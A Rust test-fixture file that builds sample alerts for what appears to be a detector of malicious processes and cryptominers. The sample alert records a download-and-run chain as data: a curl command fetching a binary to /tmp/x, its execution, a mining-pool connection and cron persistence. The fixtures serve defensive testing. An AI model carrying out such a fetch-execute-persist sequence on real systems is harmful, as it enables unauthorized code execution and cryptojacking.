//! Samples of alerts: one with every field, and one that is too large for a line.

use std::{net::SocketAddr, sync::Arc, time::Duration};

use super::{at, bash, container, credentials, curl, key};
use crate::model::{
    Account, Alert, AlertAction, AlertReason, ChainEdge, ChainKind, Container, Credentials, DroppedFile,
    Evidence, Excepted, ExceptedSuspect, Executable, Health, IncidentId, Member, MemberRole, NextVerdict,
    Peer, Points, ProcessView, ScoreParts, Signal, SignalClass, SignalId, SignalPoints, Suspect, Threshold,
    Verdict,
};

/// Returns an alert with every field.
#[expect(clippy::too_many_lines, reason = "a table")]
pub(crate) fn alert() -> Alert {
    let peer = || Peer {
        address: "203.0.113.9:443".parse().expect("an address"),
        name: Some("pool.example".into()),
    };
    let edge = |kind, time, pid, name: &str, parent: Option<u32>, object: &str| ChainEdge {
        kind,
        at: at(time),
        process: key(pid),
        name: name.into(),
        parent: parent.map(key),
        object: object.into(),
    };
    let signal = |id, class, weight, time, pid, detail: &str, evidence: &[(&'static str, &str)]| Signal {
        id: SignalId::known(id),
        class,
        weight,
        at: at(time),
        process: key(pid),
        detail: detail.into(),
        evidence: evidence.iter().map(|(name, value)| evidence_of(name, value)).chain(measured(id)).collect(),
        last: at(time + 100),
        conclusive: id == "Z9",
    };
    Alert {
        incident: IncidentId { origin: key(4700), opened: at(900) },
        action: AlertAction::IncidentOpened,
        reason: AlertReason::NewSuspect,
        number: 1,
        time: at(1_001),
        verdict: Verdict::Suspected,
        score: 44,
        score_parts: score_parts(),
        suspect: ProcessView { key: key(4713), name: "x".into(), ..curl() },
        parent: Some(bash()),
        container: Some(container()),
        destination: Some(peer()),
        suspects: vec![Suspect {
            process: ProcessView { key: key(4713), name: "x".into(), ..curl() },
            parent: Some(bash()),
            verdict: Some(Verdict::Suspected),
            score: 44,
            alive: true,
            processes: 2,
            pids: vec![4712, 4713],
            returns: 1,
            signals: vec![SignalId::known("B2"), SignalId::known("C5")],
            peers: vec![peer()],
            accounts: vec![Account { shown: "44AFFq…BEP3A".into(), hash: Some("5b1f".into()) }],
        }],
        more_suspects: 2,
        members: vec![
            Member { process: key(4713), name: "x".into(), role: MemberRole::Suspect },
            Member { process: key(4712), name: "curl".into(), role: MemberRole::Dropper },
        ],
        dropped: vec![DroppedFile {
            path: "/tmp/x".into(),
            sha256: Some("ab".repeat(32).into()),
            writer: key(4712),
        }],
        persistence: vec!["/etc/cron.d/x".into()],
        signals: vec![
            signal(
                "B2",
                SignalClass::Behavior,
                25,
                900,
                4713,
                "/tmp/x was written by curl and run 0.7 s later",
                &[("file.path", "/tmp/x"), ("writer", "curl"), ("writer", "sh")],
            ),
            signal(
                "C5",
                SignalClass::Compute,
                15,
                1_000,
                4713,
                "2 threads at 100 % of 2 cores for 60 s",
                &[],
            ),
            signal(
                "Z9",
                SignalClass::Network,
                5,
                1_001,
                4711,
                "unknown to the catalogue",
                &[
                    ("destination", "203.0.113.9:443"),
                    ("destination_country", "NL"),
                    ("destination_as_number", "64500"),
                    ("destination_as_organization", "Example Networks"),
                ],
            ),
        ],
        chain: vec![
            edge(ChainKind::Create, 123, 4700, "bash", None, "bash /root/run.sh"),
            edge(ChainKind::Create, 150, 4711, "curl", Some(4700), "curl -o /tmp/x http://10.0.0.1:8000/x"),
            edge(ChainKind::Connect, 200, 4711, "curl", Some(4700), "tcp 10.0.0.1:8000"),
            edge(ChainKind::Drop, 400, 4711, "curl", Some(4700), "/tmp/x"),
            edge(ChainKind::Create, 900, 4713, "x", Some(4700), "/tmp/x"),
            edge(ChainKind::Persist, 1_001, 4700, "bash", None, "/etc/crontab"),
        ],
        message: "'x' was downloaded, run and made to come back".into(),
        excepted: Excepted {
            incident: false,
            suspects: vec![ExceptedSuspect {
                process: key(4714),
                name: "train".into(),
                hidden: true,
                exceptions: vec!["7c1d9f02".into()],
                signals: vec![SignalId::known("C9")],
            }],
        },
        folded: 3,
        latency: Duration::from_micros(2_500),
        health: Health {
            lost: vec![("file".into(), 12)],
            blind: vec!["rounding".into()],
            hooks: [("exec".into(), "btf-tracepoint".into())].into(),
        },
    }
}

/// Returns an alert in which every text is `text` and every list has `count` entries.
pub(crate) fn large_alert(text: &str, count: usize) -> Alert {
    let Alert { mut suspects, signals, .. } = alert();
    let shared: Arc<str> = text.into();
    let place =
        Arc::new(Container { cgroup: text.into(), unit: Some(text.into()), ..(*container()).clone() });
    let process = ProcessView {
        name: text.chars().take(15).collect::<String>().into(),
        executable: Executable { path: text.into(), ..curl().executable },
        arguments: vec![Arc::clone(&shared); count].into(),
        directory: text.into(),
        credentials: Credentials { user: Some(text.into()), ..credentials() },
        container: Some(Arc::clone(&place)),
        ..curl()
    };
    let peer = || Peer {
        address: "[2001:db8:1111:2222:3333:4444:5555:6666]:65535".parse().expect("an address"),
        name: Some(text.into()),
    };
    let member = |index: usize| {
        let roles = [MemberRole::Bystander, MemberRole::Suspect, MemberRole::Dropper];
        let role = roles.get(index % roles.len()).copied().unwrap_or(MemberRole::Entry);
        Member { process: key(4_000_000), name: text.into(), role }
    };
    let edge = || ChainEdge {
        kind: ChainKind::Create,
        at: at(123),
        process: key(4_000_000),
        name: text.into(),
        parent: Some(key(4_000_001)),
        object: text.into(),
    };
    let suspect = Suspect {
        process: process.clone(),
        parent: Some(process.clone()),
        peers: (0..count).map(|_| peer()).collect(),
        accounts: vec![Account { shown: text.into(), hash: Some("ab".repeat(16).into()) }; count],
        ..suspects.remove(0)
    };
    let signals = signals.into_iter().cycle().take(count.max(1)).map(|signal| Signal {
        detail: text.into(),
        evidence: (0..count).map(|_| Evidence::new("text", text)).collect(),
        ..signal
    });
    let missing = vec![text.to_owned(); count];
    Alert {
        suspect: process.clone(),
        parent: Some(process),
        container: Some(place),
        destination: Some(peer()),
        suspects: vec![suspect; count],
        members: (0..count).map(member).collect(),
        dropped: vec![
            DroppedFile {
                path: text.into(),
                sha256: Some("ab".repeat(32).into()),
                writer: key(4_712)
            };
            count
        ],
        persistence: vec![Arc::clone(&shared); count],
        signals: signals.collect(),
        score_parts: ScoreParts {
            next: Some(NextVerdict { verdict: Verdict::Mining, missing }),
            ..score_parts()
        },
        chain: (0..count).map(|_| edge()).collect(),
        message: text.into(),
        health: Health {
            lost: vec![("passed-over".into(), u64::MAX); count],
            blind: vec!["rounding".into(); count],
            hooks: vec![("exec".into(), "btf-tracepoint".into()); count].into(),
        },
        ..alert()
    }
}

/// Returns the parts of the score of [`alert`], six minutes after its signals.
fn score_parts() -> ScoreParts {
    let part = |points, hours: u64| SignalPoints {
        points: Points::new(points),
        half_life: Duration::from_secs(hours * 3_600),
        age: Duration::from_secs(360),
        counted: true,
    };
    ScoreParts {
        signals: vec![part(24.9, 24), part(14.0, 1), part(4.7, 1)],
        verdict: Some(Verdict::Mining),
        next: None,
    }
}

/// Returns the only evidence with a threshold, which belongs to signal C5.
fn measured(signal: &str) -> Option<Evidence> {
    let threshold = Some(Threshold::at_least(60_u64));
    let seconds = Evidence { threshold, unit: Some("s".into()), ..Evidence::new("busy_for", 61_u64) };
    (signal == "C5").then_some(seconds)
}

fn evidence_of(name: &'static str, value: &str) -> Evidence {
    if let Ok(address) = value.parse::<SocketAddr>() {
        Evidence::new(name, address)
    } else if let Ok(count) = value.parse::<u64>() {
        Evidence::new(name, count)
    } else {
        Evidence::new(name, value)
    }
}
